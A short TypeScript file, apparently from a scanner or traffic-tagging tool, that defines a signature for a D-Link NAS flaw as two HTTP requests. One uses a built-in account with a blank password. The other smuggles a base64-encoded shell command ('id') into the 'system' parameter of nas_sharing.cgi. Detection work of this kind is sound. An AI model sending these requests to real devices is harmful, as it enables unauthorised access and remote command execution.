import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'dlink-nas-account',
    get('/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=7'),
    get('/cgi-bin/nas_sharing.cgi?user=admin&cmd=15&system=aWQ='),
  ),
]
